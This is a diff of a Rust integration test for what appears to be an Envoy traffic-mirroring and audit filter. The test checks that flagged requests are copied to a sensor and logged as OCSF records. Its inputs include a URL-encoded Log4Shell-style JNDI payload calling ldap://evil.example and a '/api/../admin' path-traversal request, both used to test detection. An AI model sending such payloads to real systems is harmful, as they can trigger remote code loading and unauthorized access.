@@ -249,34 +249,60 @@ fn demo_config_does_what_make_run_prints() {
     let jndi = "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
     assert_eq!(get(jndi), 200, "mirrored by signature, still served");
 
-    let mut mirrored: Vec<_> = sensor
-        .wait_for(2, WAIT)
-        .into_iter()
-        .map(|r| r.path)
-        .collect();
-    mirrored.sort_unstable();
-    assert_eq!(
-        mirrored,
-        vec![jndi.to_string(), "/api/orders/42".to_string()]
-    );
-
     // "each request also yields an OCSF audit record, POSTed to the collector"
     let deadline = Instant::now() + WAIT;
-    let mut records = 0;
-    while records < 5 && Instant::now() < deadline {
+    let mut records: Vec<Value> = Vec::new();
+    while records.len() < 5 && Instant::now() < deadline {
         records = collector
             .bodies()
             .iter()
-            .map(|b| {
+            .flat_map(|b| {
                 String::from_utf8_lossy(b)
                     .lines()
                     .filter(|l| !l.trim().is_empty())
-                    .count()
+                    .map(|l| serde_json::from_str(l).expect("a JSON record"))
+                    .collect::<Vec<Value>>()
             })
-            .sum();
+            .collect();
         std::thread::sleep(Duration::from_millis(100));
     }
-    assert_eq!(records, 5, "one audit record per request");
+    assert_eq!(records.len(), 5, "one audit record per request");
+    // What the mirror filter decided for each request, to explain a wrong copy.
+    let decisions: Vec<String> = records
+        .iter()
+        .map(|r| {
+            format!(
+                "{} -> {}",
+                r["http_request"]["url"]["url_string"], r["unmapped"]["meshsight"]["mirror"]
+            )
+        })
+        .collect();
+
+    // The rule and the signature always mirror; the demo policy also samples a share of the
+    // rest (deterministically on x-request-id), so /api/items may be there too, but then only
+    // because the mirror filter said "sample".
+    let copies = sensor.wait_for(2, WAIT);
+    let mirrored: Vec<_> = copies.iter().map(|r| r.path.as_str()).collect();
+    assert!(mirrored.contains(&"/api/orders/42"), "{decisions:#?}");
+    assert!(mirrored.contains(&jndi), "{decisions:#?}");
+    for copy in &copies {
+        let url = format!("http://localhost{}", copy.path);
+        let decision = records
+            .iter()
+            .find(|r| r["http_request"]["url"]["url_string"] == url.as_str())
+            .map(|r| &r["unmapped"]["meshsight"]["mirror"])
+            .unwrap_or_else(|| panic!("no audit record for {url}: {decisions:#?}"));
+        assert_eq!(decision["mirrored"], true, "copy of {url}: {decisions:#?}");
+        if copy.path == "/api/items" {
+            assert_eq!(decision["reason"], "sample", "{decisions:#?}");
+        }
+    }
+    for denied in ["/admin", "/api/../admin"] {
+        assert!(
+            !mirrored.contains(&denied),
+            "a refused request was mirrored: {decisions:#?}"
+        );
+    }
     let stats = envoy
         .admin_get("/stats?filter=meshsight")
         .expect("admin stats");
